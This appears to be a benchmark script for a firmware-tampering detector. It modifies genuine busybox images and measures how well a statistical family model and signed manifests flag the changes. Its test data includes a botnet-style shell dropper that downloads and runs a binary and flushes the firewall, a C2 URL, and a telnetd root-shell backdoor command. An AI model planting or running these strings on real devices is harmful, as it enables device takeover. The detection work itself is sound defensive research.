"""Firmware validation on real busybox images: modified copies found (and where), genuine images passed.

Images (Debian packages, fetched once with apt by the firmware tests' setup,
``tests/firmware/conftest.py``, into ``$MISUSE_FIRMWARE_CACHE`` or ``~/.cache/misuse-firmware``):
busybox-static 1.35.0 (bookworm) for amd64, arm64 and armhf, the dynamically linked busybox
1.35.0 amd64, and busybox-static 1.30.1 (bullseye) and 1.37.0 (trixie) for amd64.

1. False alarms, leave one out: each genuine image is inspected by a :class:`FamilyModel`
   fitted on all the others. Any finding is a false alarm. Three groups: another version of an
   architecture the references cover (the realistic case: a vendor's next release), an
   architecture no reference has, and the dynamic build (another linkage of the same version).
2. Detection: each amd64 busybox-static version is the base in turn; the family is fitted on
   every *other* genuine image (so the base is new to it, as a fresh release would be), and
   the base is modified in the ways below, 5 random seeds each (where a seed matters):
     append_random   40 KB of random bytes after the ELF content (encrypted payload)
     append_script   a 1.5 KB shell dropper appended (low-entropy text)
     patch_host      a C2 URL written over an existing string of .rodata
     patch_shell     a telnetd backdoor command written over an existing string of .rodata
     replace_section .eh_frame (or .rodata where missing) overwritten with random bytes
     packed_region   16 KB of .text replaced by zlib-compressed bytes of the image (repacking)
     nop_sled        8 KB of .text overwritten with 0x90
     code_same_arch  16 KB of .text replaced by .text of the dynamic amd64 build (real x86-64
                     code of the same project: byte statistics cannot tell it apart)
   Detected = any finding; localised = a finding overlapping the modified bytes; stray = findings
   that do not overlap them.
3. Signed manifests and allow-list: each base signed (Ed25519) and allowed; every modified copy
   verified against the base's manifest.

Run: ``.venv/bin/python benchmarks/firmware.py`` (downloads about 5 MB on the first run).
"""

from __future__ import annotations

import importlib.util
import time
import zlib
from collections import Counter
from pathlib import Path
from types import ModuleType

import numpy as np
import pandas as pd

from misuse.firmware.elf import parse_elf
from misuse.firmware.family import FamilyModel, Finding
from misuse.firmware.signing import AllowList, generate_key, sign_image, verify_image

SEEDS = range(5)
C2 = b"http://update.iot-cdn-check.ru:8080/bins/x86"
SHELL = b"/bin/busybox telnetd -p 2323 -l /bin/sh"
DROPPER = (
    b"#!/bin/sh\ncd /tmp || cd /var/run\n"
    + b"wget http://185.62.190.20/bins/mips -O .d; chmod 777 .d; ./.d scan\n" * 20
    + b"iptables -F\nkillall -9 telnetd\n"
)


def fetcher() -> ModuleType:
    """The firmware tests' setup module (it downloads and unpacks the Debian packages)."""
    path = Path(__file__).resolve().parents[1] / "tests" / "firmware" / "conftest.py"
    spec = importlib.util.spec_from_file_location("firmware_images", path)
    if spec is None or spec.loader is None:
        raise SystemExit(f"cannot load {path}")
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    return mod


def images() -> dict[str, bytes]:
    """Genuine images by ``busybox[-static]-<version>-<arch>``."""
    mod = fetcher()
    out: dict[str, bytes] = {}
    for key, path in mod.fetch_busybox().items():
        pkg, arch = key.rsplit("-", 1)
        out[f"{pkg}-1.35.0-{arch}"] = path.read_bytes()
    out |= {k: p.read_bytes() for k, p in mod.fetch_busybox_versions().items()}
    if not any(k.startswith("busybox-static") for k in out):
        raise SystemExit("no busybox images: apt-get download failed (no apt or no network?)")
    return dict(sorted(out.items()))


def _section(data: bytes, *names: str) -> tuple[int, int]:
    secs = {s.name: s for s in parse_elf(data).sections}
    for n in names:
        if n in secs:
            return secs[n].offset, secs[n].size
    raise SystemExit(f"none of the sections {names} in the image")


def _overwrite_string(data: bytes, text: bytes, rng: np.random.Generator) -> tuple[bytes, int, int]:
    start, size = _section(data, ".rodata")
    body = data[start : start + size]
    runs = [
        start + i for i in range(0, len(body) - len(text), 1) if body[i : i + len(text)].isascii() and body[i - 1] == 0
    ]
    runs = [r for r in runs if all(32 <= b < 127 for b in data[r : r + len(text)])]
    at = int(rng.choice(runs))
    out = bytearray(data)
    out[at : at + len(text)] = text
    return bytes(out), at, len(text)


def modify(kind: str, base: bytes, donor: bytes, seed: int) -> tuple[bytes, int, int]:
    """A modified copy of ``base`` and the (offset, length) of the modified bytes."""
    rng = np.random.default_rng(seed)
    out = bytearray(base)
    if kind == "append_random":
        return base + rng.bytes(40_000), len(base), 40_000
    if kind == "append_script":
        return base + DROPPER, len(base), len(DROPPER)
    if kind == "patch_host":
        return _overwrite_string(base, C2, rng)
    if kind == "patch_shell":
        return _overwrite_string(base, SHELL, rng)
    if kind == "replace_section":
        start, size = _section(base, ".eh_frame", ".rodata")
        out[start : start + size] = rng.bytes(size)
        return bytes(out), start, size
    tstart, tsize = _section(base, ".text")
    length = 8192 if kind == "nop_sled" else 16384
    at = tstart + int(rng.integers(0, tsize - length))
    if kind == "packed_region":
        packed = zlib.compress(base[tstart : tstart + 4 * length], 9)[:length]
        out[at : at + length] = packed.ljust(length, b"\0")
    elif kind == "nop_sled":
        out[at : at + length] = b"\x90" * length
    elif kind == "code_same_arch":
        dstart, dsize = _section(donor, ".text")
        src = dstart + int(rng.integers(0, dsize - length))
        out[at : at + length] = donor[src : src + length]
    else:
        raise SystemExit(f"unknown modification {kind}")
    return bytes(out), at, length


KINDS = (
    "append_random",
    "append_script",
    "patch_host",
    "patch_shell",
    "replace_section",
    "packed_region",
    "nop_sled",
    "code_same_arch",
)
SEEDED = {"patch_host", "patch_shell", "replace_section", "packed_region", "nop_sled", "code_same_arch"}


def _overlaps(f: Finding, at: int, length: int) -> bool:
    return f.offset < at + length and at < f.offset + f.length


def group_of(key: str, others: dict[str, bytes]) -> str:
    """Which kind of genuine image a held-out one is, relative to the rest."""
    arch = key.rsplit("-", 1)[1]
    if not key.startswith("busybox-static"):
        return "other build (dynamic)"
    if any(k.endswith(arch) and k.startswith("busybox-static") for k in others):
        return "other version, known arch"
    return "arch no reference has"


def main() -> None:
    t0 = time.time()
    imgs = images()
    print(f"images ({len(imgs)}): " + ", ".join(f"{k} {len(v) / 1e6:.2f} MB" for k, v in imgs.items()))

    print("\n1. genuine images, leave one out (family fitted on all the others; any finding = false alarm)")
    rows = []
    for key, data in imgs.items():
        others = {k: v for k, v in imgs.items() if k != key}
        model = FamilyModel().fit(list(others.values()), list(others))
        found = model.inspect(data, key)
        rows.append(
            {
                "held_out": key,
                "group": group_of(key, others),
                "findings": len(found),
                "checks": dict(Counter(f.check for f in found)),
                "bytes_flagged": sum(f.length for f in found if f.check == "region"),
            }
        )
    fa = pd.DataFrame(rows)
    print(fa.to_string(index=False))
    for group, part in fa.groupby("group"):
        print(f"  {group}: {int((part['findings'] > 0).sum())}/{len(part)} images with a finding")

    bases = [k for k in imgs if k.startswith("busybox-static") and k.endswith("amd64")]
    donor = next((v for k, v in imgs.items() if k.startswith("busybox-1") and k.endswith("amd64")), None)
    print(f"\n2. modified copies of {len(bases)} amd64 busybox-static versions ({', '.join(bases)}), family fitted")
    print("   on the other genuine images; seeds 0..4 where the modification is random")
    rows = []
    key_pair = generate_key()
    sig_rows = []
    for base_key in bases:
        base = imgs[base_key]
        others = {k: v for k, v in imgs.items() if k != base_key}
        model = FamilyModel().fit(list(others.values()), list(others))
        clean = model.inspect(base, base_key)
        manifest = sign_image(base, key_pair, "busybox-static-amd64", base_key, base_key)
        allowed = AllowList()
        allowed.add("busybox-static-amd64", base_key, base)
        sig_rows.append(verify_image(base, manifest, key_pair.public_key(), allowed).ok)
        for kind in KINDS:
            if kind == "code_same_arch" and donor is None:
                continue
            for seed in SEEDS if kind in SEEDED else (0,):
                data, at, length = modify(kind, base, donor or b"", seed)
                found = model.inspect(data, base_key)
                hit = [f for f in found if _overlaps(f, at, length)]
                v = verify_image(data, manifest, key_pair.public_key(), allowed)
                rows.append(
                    {
                        "kind": kind,
                        "base": base_key,
                        "base_findings": len(clean),
                        "detected": bool(found),
                        "localised": bool(hit),
                        "stray": len(found) - len(hit),
                        "by": "+".join(sorted({f.check for f in hit})),
                        "verify_failed": not v.ok,
                    }
                )
    det = pd.DataFrame(rows)
    summary = det.groupby("kind", sort=False).agg(
        copies=("detected", "size"),
        detected=("detected", "sum"),
        localised=("localised", "sum"),
        stray_findings=("stray", "sum"),
        found_by=("by", lambda s: ",".join(sorted({x for v in s for x in v.split("+") if x}))),
        verify_failed=("verify_failed", "sum"),
    )
    print(summary.to_string())
    dirty = int((det.groupby("base")["base_findings"].first() > 0).sum())
    print(f"   base images with findings before modification: {dirty}/{len(bases)}")

    print("\n3. signed manifests (Ed25519) + allow-list per model")
    print(
        f"   genuine bases verified ok: {sum(sig_rows)}/{len(sig_rows)}; modified copies rejected: "
        f"{int(det['verify_failed'].sum())}/{len(det)} (hash differs from the signed manifest)"
    )
    print(f"\ntotal {time.time() - t0:.0f}s")


if __name__ == "__main__":
    main()
